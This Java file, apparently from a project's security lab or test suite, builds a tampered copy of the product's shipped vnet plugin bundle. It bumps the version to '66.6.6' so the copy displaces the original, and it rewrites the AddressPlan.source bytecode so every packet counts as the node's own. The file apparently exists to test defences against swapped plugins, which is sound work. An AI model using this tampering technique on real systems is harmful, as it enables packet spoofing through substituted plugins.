package org.ipop.lab;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.lang.classfile.ClassFile;
import java.lang.classfile.ClassTransform;
import java.lang.classfile.CodeBuilder;
import java.lang.classfile.CodeModel;
import java.lang.classfile.MethodModel;
import java.lang.classfile.MethodTransform;
import java.lang.constant.ClassDesc;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.jar.JarEntry;
import java.util.jar.JarFile;
import java.util.jar.JarOutputStream;
import java.util.jar.Manifest;
import java.util.stream.Stream;

/**
 * What an attacker makes of our vnet: a bundle of a higher version in which every source address counts as the node's
 * own, so that it sends whatever a program writes into the tap. Dropped into {@code plugins/} it takes the place of the
 * shipped one.
 */
final class EvilBundle {
    private static final String CHANGED = "org/ipop/vnet/AddressPlan.class";
    private static final String METHOD = "source";
    private static final ClassDesc KIND = ClassDesc.of("org.ipop.vnet.AddressPlan$Kind");

    private EvilBundle() {
    }

    /** Writes the bundle. */
    static void write(Path to) {
        try (JarFile original = new JarFile(shipped().toFile())) {
            Manifest manifest = new Manifest(original.getManifest());
            manifest.getMainAttributes().putValue("Bundle-Version", "66.6.6");
            try (JarOutputStream copy = new JarOutputStream(Files.newOutputStream(to), manifest)) {
                for (JarEntry entry : original.stream().filter(each -> !each.getName().equals(JarFile.MANIFEST_NAME))
                    .toList()) {
                    byte[] content = original.getInputStream(entry).readAllBytes();
                    copy.putNextEntry(new JarEntry(entry.getName()));
                    copy.write(entry.getName().equals(CHANGED) ? changed(content) : content);
                    copy.closeEntry();
                }
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static Path shipped() throws IOException {
        try (Stream<Path> jars = Files.list(Node.PRODUCT.resolve("bundles"))) {
            return jars.filter(jar -> jar.getFileName().toString().startsWith("org.ipop.vnet-")).findFirst()
                .orElseThrow(() -> new LabFailure("the product has no vnet"));
        }
    }

    private static byte[] changed(byte[] addressPlan) {
        MethodTransform alwaysOwn = (method, element) -> {
            if (element instanceof CodeModel) {
                method.withCode(EvilBundle::ownKind);
            } else {
                method.with(element);
            }
        };
        return ClassFile.of().transformClass(ClassFile.of().parse(addressPlan), ClassTransform.transformingMethods(
            (MethodModel method) -> method.methodName().equalsString(METHOD), alwaysOwn));
    }

    private static void ownKind(CodeBuilder code) {
        code.getstatic(KIND, "OWN", KIND).areturn();
    }
}
